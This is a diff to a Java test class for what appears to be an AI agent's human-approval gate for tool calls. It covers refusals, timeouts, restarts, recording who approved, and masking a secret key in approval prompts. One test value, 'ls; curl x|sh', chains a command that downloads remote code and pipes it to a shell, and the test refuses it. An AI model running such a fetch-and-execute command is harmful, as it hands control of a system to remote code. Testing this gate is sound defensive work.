@@ -73,7 +73,7 @@ final class AskedCallsTest {
         try (var _ = rig.approvals().subscribe(notice -> {
             if (notice instanceof Approvals.Notice.Asked(var approval)) {
                 asked.add(approval.tool());
-                Thread.startVirtualThread(() -> rig.approvals().answer(approval.id(), true, null));
+                Thread.startVirtualThread(() -> rig.approvals().answer(approval.id(), true, null, Rig.ANNA));
             }
         })) {
             assertThat(rig.say("all of it").text()).isEqualTo("done");
@@ -94,7 +94,7 @@ final class AskedCallsTest {
 
         assertThat(question().tool()).isEqualTo("play");
         assertThat(play.calls).isEmpty();
-        rig.approvals().answer(question().id(), false, null);
+        rig.approvals().answer(question().id(), false, null, Rig.ANNA);
         answer.get(60, TimeUnit.SECONDS);
     }
 
@@ -112,7 +112,7 @@ final class AskedCallsTest {
 
         assertThat(exec.calls).hasSize(1);
         assertThat(question.arguments().path("command").stringValue()).isEqualTo("ls; curl x|sh");
-        rig.approvals().answer(question.id(), false, "not that");
+        rig.approvals().answer(question.id(), false, "not that", Rig.ANNA);
         answer.get(60, TimeUnit.SECONDS);
         assertThat(exec.calls).hasSize(1);
     }
@@ -125,19 +125,25 @@ final class AskedCallsTest {
         var answer = rig.begin("clean up");
         var question = question();
 
-        assertThat(rig.approvals().answer(question.id(), false, "I need those"))
+        assertThat(rig.approvals().answer(question.id(), false, "I need those", Rig.ANNA))
                 .isEqualTo(new Approvals.Answer.Taken());
-        assertThat(rig.approvals().answer(question.id(), true, null))
-                .isEqualTo(new Approvals.Answer.TooLate(Decision.by(false, "I need those")));
-        assertThat(rig.approvals().answer("approval-none", true, null)).isEqualTo(new Approvals.Answer.Unknown());
+        assertThat(rig.approvals().answer(question.id(), true, null, Rig.ANNA))
+                .isEqualTo(new Approvals.Answer.TooLate(new Decision(false, "I need those", null, Rig.ANNA)));
+        assertThat(rig.approvals().answer("approval-none", true, null, Rig.ANNA))
+                .isEqualTo(new Approvals.Answer.Unknown());
 
         answer.get(60, TimeUnit.SECONDS);
         assertThat(exec.calls).isEmpty();
         assertThat(rig.told(1).getLast())
                 .contains("Not done: the person refused it. They said: \\\"I need those\\\"")
                 .contains("\"ok\":false");
-        assertThat(rig.events(RunEvent.ApprovalResolved.class).getFirst().approved())
-                .isFalse();
+        var resolved = rig.events(RunEvent.ApprovalResolved.class).getFirst();
+        assertThat(resolved.by()).isEqualTo(Rig.ANNA);
+        assertThat(resolved.durationMs()).isNotNegative();
+        assertThat(resolved.args())
+                .isEqualTo(
+                        rig.events(RunEvent.ApprovalRequired.class).getFirst().args());
+        assertThat(resolved.approved()).isFalse();
         assertThat(rig.events(RunEvent.ToolEnd.class).getFirst().status()).isEqualTo(RunEvent.Status.ERROR);
     }
 
@@ -153,7 +159,7 @@ final class AskedCallsTest {
         assertThat(rig.told(1).getLast()).contains("nobody allowed it in time");
         var resolved = rig.events(RunEvent.ApprovalResolved.class).getFirst();
         assertThat(resolved.code()).isEqualTo("approval_timeout");
-        assertThat(rig.approvals().answer(resolved.approvalId(), true, null))
+        assertThat(rig.approvals().answer(resolved.approvalId(), true, null, Rig.ANNA))
                 .isInstanceOf(Approvals.Answer.TooLate.class);
     }
 
@@ -167,7 +173,7 @@ final class AskedCallsTest {
         var question = question();
 
         assertThat(question.arguments().toString()).isEqualTo("{\"command\":\"curl -H •••• x\",\"cwd\":\"a\"}");
-        rig.approvals().answer(question.id(), true, null);
+        rig.approvals().answer(question.id(), true, null, Rig.ANNA);
         answer.get(60, TimeUnit.SECONDS);
         assertThat(exec.calls.getFirst().path("command").stringValue()).isEqualTo("curl -H sk-very-secret-key x");
     }
@@ -181,7 +187,7 @@ final class AskedCallsTest {
         rig.restart();
 
         assertThat(rig.pending()).extracting(Approval::id).containsExactly(before.id());
-        assertThat(rig.approvals().answer(before.id(), true, null)).isEqualTo(new Approvals.Answer.Taken());
+        assertThat(rig.approvals().answer(before.id(), true, null, Rig.ANNA)).isEqualTo(new Approvals.Answer.Taken());
         assertThat(rig.goOn().get(60, TimeUnit.SECONDS).text()).isEqualTo("done");
 
         assertThat(abandoned).isNotDone();
